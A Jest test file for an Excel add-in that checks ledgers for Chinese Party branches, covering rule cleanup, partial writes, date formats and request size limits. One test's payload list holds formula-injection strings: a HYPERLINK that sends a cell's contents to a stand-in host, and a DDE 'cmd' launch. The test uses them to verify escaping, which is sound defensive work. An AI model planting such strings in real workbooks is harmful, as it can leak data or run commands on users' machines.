/**
 * The Office adapter against what real Excel does and office-addin-mock does not (issue 16): each
 * defect found in review is a test here (or in tests/scan/officeScan.test.ts), with the fake's own
 * semantics checked first.
 */
import { OfficeWorkbook } from '../../src/adapters/office/officeWorkbook';
import { PartialWriteError } from '../../src/adapters/office/partialWriteError';
import { excelWouldParse } from '../../src/adapters/office/cellText';
import { clearScanOutput, runScan } from '../../src/app/scanWorkbook';
import { fillDues, recordMeeting } from '../../src/app/fillHelpers';
import { calendarDate } from '../../src/core/calendar/calendarDate';
import { planScanOutput } from '../../src/core/scan/scanPlan';
import type { Finding, Severity } from '../../src/core/scan/finding';
import type { ScanResult } from '../../src/core/scan/scanWorkbook';
import type { SheetGrid } from '../../src/core/read/grid';
import { sampleGridsFromPlan } from '../support/workbooks';
import { harness } from '../support/officeHarness';
import { ExcelError, StrictExcel, parseTyped, type StoredCf } from '../support/strictExcel';

jest.setTimeout(30000);
const today = calendarDate(2025, 12, 31);
const rule = (formula: string): StoredCf => ({ type: 'Custom', formula, areas: 'A1', format: {} });
const ours = (s: Severity) => rule(`=LEN("branch-ledger:${s}")>0`);

/** The sample ledger with some roster names replaced (row index 3 is the first member). */
function gridsWith(edit: (grids: SheetGrid[]) => void, members = 30): SheetGrid[] {
  const grids = sampleGridsFromPlan(members, true).map((g) => ({ ...g, values: g.values.map((r) => [...r]) }));
  edit(grids);
  return grids;
}

describe('the strict fake itself', () => {
  it('parses typed text as Excel does', () => {
    expect(parseTyped('=1+1')).toMatchObject({ formula: '=1+1' });
    expect(parseTyped('- 学习二十大精神')).toMatchObject({ formula: '=- 学习二十大精神', value: '#NAME?' });
    expect(parseTyped('+86 10 1234')).toMatchObject({ formula: expect.any(String) });
    expect(parseTyped('2025-03').value).toBe(45717);
    expect(parseTyped('3,000').value).toBe(3000);
    expect(parseTyped('-5').value).toBe(-5);
    expect(parseTyped('TRUE').value).toBe(true);
    expect(parseTyped("'=1+1")).toEqual({ value: '=1+1', quotePrefix: true });
    expect(parseTyped('学习').value).toBe('学习');
  });

  it('runs a batch in order, keeps what ran before a failure and reports the traces executed', async () => {
    const excel = new StrictExcel([], { failOn: /add\(b\)/ });
    const ws = excel.context.workbook.worksheets;
    ws.add('a');
    excel.context.trace('first');
    ws.add('b');
    ws.add('c');
    const error = await excel.context.sync().catch((e: ExcelError) => e);
    expect(error).toBeInstanceOf(ExcelError);
    expect((error as ExcelError).traceMessages).toEqual(['first']);
    expect(excel.sheets.map((s) => s.name)).toEqual(['a']);
  });

  it('shifts conditional-format ids on delete, refuses a missing id, caps the web payload and knows each host’s API level', async () => {
    const excel = new StrictExcel([{ name: 's', visible: true, values: [['x']], numberFormats: [['General']], hiddenColumns: [] }]);
    excel.sheet('s').cfs.push(rule('=1'), rule('=2'), rule('=3'));
    const cfs = excel.context.workbook.worksheets.getItem('s').getRange().conditionalFormats;
    cfs.getItem('0').delete();
    cfs.getItem('2').delete(); // was the third rule; now past the end
    await expect(excel.context.sync()).rejects.toMatchObject({ code: 'ItemNotFound' });
    expect(excel.sheet('s').cfs.map((c) => c.formula)).toEqual(['=2', '=3']);

    const big = Array.from({ length: 2000 }, () => Array.from({ length: 20 }, () => '党支部学习记录'.repeat(10)));
    for (const [profile, fails] of [['web', true], ['win365', false]] as const) {
      const e = new StrictExcel([{ name: 's', visible: true, values: [], numberFormats: [], hiddenColumns: [] }], { profile });
      e.context.workbook.worksheets.getItem('s').getRangeByIndexes(0, 0, 2000, 20).values = big;
      const outcome = await e.context.sync().then(() => 'ok', (err: ExcelError) => err.code);
      expect(outcome).toBe(fails ? 'RequestPayloadSizeLimitExceeded' : 'ok');
    }
    expect(new StrictExcel([], { profile: 'win2021' }).supports('ExcelApi', '1.13')).toBe(true);
    expect(new StrictExcel([], { profile: 'win2021' }).supports('ExcelApi', '1.15')).toBe(false);
    expect(new StrictExcel([], { profile: 'mac' }).supports('ExcelApi', '1.9')).toBe(true);
  });
});

describe('defect 1: clearing highlights deletes by position', () => {
  it('a rescan replaces only the add-in’s rules, wherever the user’s rules sit between them', async () => {
    const h = harness(sampleGridsFromPlan(30, true), { cfs: { 党员名册: [ours('critical'), rule('=$C4="女"'), ours('warning'), rule('=$D4="汉族"'), ours('info')] } });
    await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true });
    const formulas = h.excel.sheet('党员名册').cfs.map((c) => c.formula);
    expect(formulas.filter((f) => !f.includes('branch-ledger'))).toEqual(['=$C4="女"', '=$D4="汉族"']);
    expect(formulas.filter((f) => f.includes('branch-ledger')).length).toBeLessThanOrEqual(3);
  });
});

describe('defect 2: Excel refuses to list a sheet’s rules', () => {
  const grids = () => sampleGridsFromPlan(30, true);

  it('the scan still writes its findings, touches no rule and says highlights were not possible', async () => {
    const h = harness(grids(), { cfLoadFails: ['党员名册'], cfs: { 党员名册: [rule('=$C4="女"'), rule('=$C4="男"')] } });
    const { result, report } = await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true });
    expect(result.findings.length).toBeGreaterThan(5);
    expect(report?.degraded).toEqual(['highlights-failed']);
    expect(h.excel.sheets.map((s) => s.name)).toContain('检查结果');
    expect(h.excel.sheets.flatMap((s) => s.cfs).map((c) => c.formula)).toEqual(['=$C4="女"', '=$C4="男"']);
    // The refused rule list costs one more read sync, nothing else.
    expect(h.syncs).toHaveBeenCalledTimes(4);
  });

  it('the helpers and 清除标记 still work', async () => {
    const h = harness(grids(), { cfLoadFails: ['党员名册'] });
    const { preview } = await fillDues(new OfficeWorkbook(h.context, h.excel.supports), 2025, 12, { today, lang: 'zh-CN' });
    expect(preview.problem ?? null).toBeNull();
    const c = harness(grids(), { cfLoadFails: ['党员名册'] });
    await expect(clearScanOutput(new OfficeWorkbook(c.context, c.excel.supports))).resolves.toMatchObject({ degraded: ['highlights-failed'] });
  });
});

describe('defect 3 and issue 10: user text stays text', () => {
  const payloads = ['=HYPERLINK("http://x.example/?q="&G4,"y")', "=cmd|' /C calc'!A0", '-学习', '+1', '@SUM(A1)', '2025-03', '0012'];

  it('names, a branch name and periods on the 检查结果 sheet are values, never formulas', async () => {
    const grids = gridsWith((g) => {
      const roster = g.find((x) => x.name === '党员名册')!;
      payloads.forEach((p, i) => ((roster.values[3 + i] as unknown[])[1] = p));
      const settings = g.find((x) => x.name === '设置')!;
      for (const row of settings.values) row.forEach((v, c) => typeof v === 'string' && /党支部$/.test(v) && ((row as unknown[])[c] = '=1+1'));
    });
    const h = harness(grids);
    const { result } = await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true });
    const sheet = h.excel.sheet('检查结果');
    expect(result.branchName).toBe('=1+1');
    expect(h.excel.cell('检查结果', 0, 0)).toMatchObject({ value: expect.stringMatching(/^=1\+1台账检查结果/), quotePrefix: true });
    const formulas = [...sheet.cells].filter(([, c]) => c.formula).map(([, c]) => c.formula!);
    // The only formulas are the add-in's own links, built from escaped sheet names.
    expect(formulas.every((f) => /^=HYPERLINK\("#'[^"]*'!\$?[A-Z]+\d+","[A-Z]+\d+"\)$/.test(f))).toBe(true);
    const texts = [...sheet.cells].map(([, c]) => c.value);
    const named = result.findings.filter((f) => f.member && payloads.includes(f.member)).map((f) => f.member);
    expect(named.length).toBeGreaterThan(0);
    for (const m of named) expect(texts).toContain(m);
    // Periods such as 2025-03 stay the text the finding says, not a date serial.
    const periods = result.findings.map((f) => f.period).filter((p): p is string => Boolean(p));
    expect(periods.length).toBeGreaterThan(0);
    for (const p of new Set(periods)) expect(texts).toContain(p);
  });

  it('a meeting recorded with a topic or summary Excel would parse is written as that text', async () => {
    const grids = sampleGridsFromPlan(30);
    const h = harness(grids);
    const roster = grids.find((g) => g.name === '党员名册')!;
    const r = await recordMeeting(
      new OfficeWorkbook(h.context, h.excel.supports),
      { date: calendarDate(2025, 12, 30), types: ['主题党日'], topic: '- 学习二十大精神', host: roster.values[3][1] as string, recorder: roster.values[4][1] as string, absentees: [], makeUp: [], hours: 2, summary: '=1+1', addStudyHours: false },
      { today, lang: 'zh-CN' },
    );
    expect(r.ok).toBe(true);
    const cells = [...h.excel.sheet('会议及活动记录').cells.values()];
    expect(cells.some((c) => c.value === '- 学习二十大精神' && !c.formula)).toBe(true);
    expect(cells.some((c) => c.value === '=1+1' && !c.formula)).toBe(true);
    expect(cells.some((c) => c.formula && c.value === '#NAME?')).toBe(false);
  });

  it('quotes exactly the strings Excel would parse', () => {
    for (const s of [...payloads, '1/2', '3,000', '(12)', '2025年3月', 'TRUE', "'x", '#N/A']) expect(excelWouldParse(s)).toBe(true);
    for (const s of ['学习', '陈敏', '3天', '20学时', '第一党支部', ' =x']) expect(excelWouldParse(s)).toBe(false);
  });
});

describe('defect 4: one sync is not a transaction', () => {
  it('an optional extra that fails degrades alone: the findings sheet and the highlights are there', async () => {
    const h = harness(sampleGridsFromPlan(30, true), { failOn: /pageLayout\.orientation/ });
    const { report } = await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true });
    expect(report?.degraded).toEqual(['print-setup-failed']);
    expect(h.excel.sheets.map((s) => s.name)).toContain('检查结果');
    expect(h.excel.sheets.flatMap((s) => s.cfs).length).toBeGreaterThan(0);
  });

  it('a failure in the essential writes says what is in the workbook now', async () => {
    const h = harness(sampleGridsFromPlan(30, true), { failOn: /^sheet\[检查结果\]\.range\.(values|formulas)=$/ });
    const error = await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PartialWriteError);
    expect((error as PartialWriteError).added).toEqual(['检查结果']);
    expect((error as Error).message).toMatch(/已新增的工作表“检查结果”可能不完整/);
    expect((error as Error).message).not.toMatch(/未作改动。/);
  });

  it('a failure before anything was written says the workbook was not changed', async () => {
    const h = harness(sampleGridsFromPlan(30, true), { failOn: /^worksheets\.add/ });
    const error = (await runScan(new OfficeWorkbook(h.context, h.excel.supports), { today, lang: 'zh-CN', write: true }).catch((e: unknown) => e)) as PartialWriteError;
    expect(error.changed).toBe(false);
    expect(error.message).toMatch(/工作簿未作改动/);
  });
});

describe('defect 6: dates written into a hand-made ledger’s General cells', () => {
  it('get the date format of the cells above, or yyyy-mm-dd', async () => {
    const grids = sampleGridsFromPlan(30).map((g) => (g.name === '会议及活动记录' ? { ...g, numberFormats: g.numberFormats.map((r) => r.map(() => 'General')) } : g));
    const h = harness(grids);
    const roster = grids.find((g) => g.name === '党员名册')!;
    await recordMeeting(
      new OfficeWorkbook(h.context, h.excel.supports),
      { date: calendarDate(2025, 12, 30), types: ['主题党日'], topic: '学习', host: roster.values[3][1] as string, recorder: roster.values[4][1] as string, absentees: [], makeUp: [], hours: 2, summary: '学习', addStudyHours: false },
      { today, lang: 'zh-CN' },
    );
    const sheet = h.excel.sheet('会议及活动记录');
    const serial = 46021; // 2025-12-30
    const dated = [...sheet.cells].filter(([, c]) => c.value === serial).map(([k]) => sheet.formats.get(k));
    expect(dated).toEqual(['yyyy-mm-dd']);

    // A column whose earlier dates carry the user's own date format: the new date takes it.
    const chinese = 'yyyy"年"m"月"d"日"';
    const withOwn = grids.map((g) => {
      if (g.name !== '会议及活动记录') return g;
      const col = g.values[2].findIndex((v) => typeof v === 'string' && v.includes('日期'));
      return { ...g, numberFormats: g.numberFormats.map((r, i) => r.map((f, c) => (c === col && i > 2 ? chinese : f))) };
    });
    const h2 = harness(withOwn);
    await recordMeeting(
      new OfficeWorkbook(h2.context, h2.excel.supports),
      { date: calendarDate(2025, 12, 30), types: ['主题党日'], topic: '学习', host: roster.values[3][1] as string, recorder: roster.values[4][1] as string, absentees: [], makeUp: [], hours: 2, summary: '学习', addStudyHours: false },
      { today, lang: 'zh-CN' },
    );
    const sheet2 = h2.excel.sheet('会议及活动记录');
    expect([...sheet2.cells].filter(([, c]) => c.value === serial).map(([k]) => sheet2.formats.get(k))).toEqual([chinese]);
  });
});

describe('defect 7: thousands of findings', () => {
  const finding = (i: number): Finding => ({
    rule: 'dues.arrears',
    severity: (['critical', 'warning', 'info'] as const)[Math.floor((i * 3) / 6000)],
    sheet: '党费收缴台账',
    row: 4 + (i % 900),
    column: '7月',
    cell: `K${4 + (i % 900)}`,
    member: `党员${i}`,
    period: '2025-07',
    meetingType: null,
    group: null,
    message: '2025年7月党费未交纳，已连续3个月未交纳党费。'.repeat(2),
    basis: '《中国共产党党费收缴、使用和管理的规定》（中组发〔2008〕3号）',
  });
  const result = (n: number): ScanResult => ({
    asOf: today,
    year: 2025,
    findings: Array.from({ length: n }, (_, i) => finding(Math.floor((i * 6000) / n))),
    recognized: [],
    unrecognized: [],
    counts: { critical: 0, warning: 0, info: 0 },
    branchName: '第一党支部',
  });

  it('write the findings sheet with a constant number of objects, every request under the web’s 5 MB', async () => {
    const proxies: number[] = [];
    for (const n of [600, 6000]) {
      const excel = new StrictExcel([{ name: '党费收缴台账', visible: true, values: [['x']], numberFormats: [['General']], hiddenColumns: [] }]);
      const port = new OfficeWorkbook(excel.context, excel.supports);
      await port.readSheets();
      const report = await port.applyPlan(planScanOutput(result(n), [], 'zh-CN', '第一党支部', false));
      expect(report.degraded).toEqual([]);
      for (const s of excel.syncs) expect(s.requestBytes).toBeLessThan(5 * 1024 * 1024);
      proxies.push(excel.proxies);
      console.log(`${n} findings: ${excel.syncs.length - 2} write sync(s), ${excel.syncs.slice(2).map((s) => s.requestBytes).join(' + ')} bytes, ${excel.proxies} proxies`);
    }
    expect(proxies[1]).toBeLessThan(proxies[0] + 20);
  });
});

describe('merged areas for header bands (issue 9)', () => {
  const banded = (): SheetGrid => ({
    name: '党费',
    visible: true,
    values: [
      ['姓名', '党费交纳情况', null, null],
      [null, '1月', '2月', '3月'],
      ['张三', 10, 10, 10],
    ],
    numberFormats: Array.from({ length: 3 }, () => Array(4).fill('General')),
    hiddenColumns: [],
    merges: [
      { top: 1, left: 2, bottom: 1, right: 4 },
      { top: 1, left: 1, bottom: 2, right: 1 },
    ],
  });

  it('are read where the host has ExcelApi 1.13, in the same sync as the sizes', async () => {
    for (const profile of ['web', 'win365', 'mac', 'win2021'] as const) {
      const h = harness([banded()], { profile });
      const [grid] = await new OfficeWorkbook(h.context, h.excel.supports).readSheets();
      expect(grid.merges).toEqual(banded().merges);
      expect(h.syncs).toHaveBeenCalledTimes(2);
    }
  });

  it('are left undefined (the core infers the spans) below ExcelApi 1.13 or past Excel’s 512 areas', async () => {
    const old = harness([banded()], { excelApi: '1.12' });
    const [grid] = await new OfficeWorkbook(old.context, old.excel.supports).readSheets();
    expect(grid.merges).toBeUndefined();
    expect(grid.values[2]).toEqual(['张三', 10, 10, 10]);
    const many = banded();
    const lots = { ...many, merges: Array.from({ length: 513 }, (_, i) => ({ top: 10 + i, left: 1, bottom: 10 + i, right: 2 })) };
    const h = harness([lots]);
    const [read] = await new OfficeWorkbook(h.context, h.excel.supports).readSheets();
    expect(read.merges).toBeUndefined();
    expect(read.values[2]).toEqual(['张三', 10, 10, 10]);
  });
});
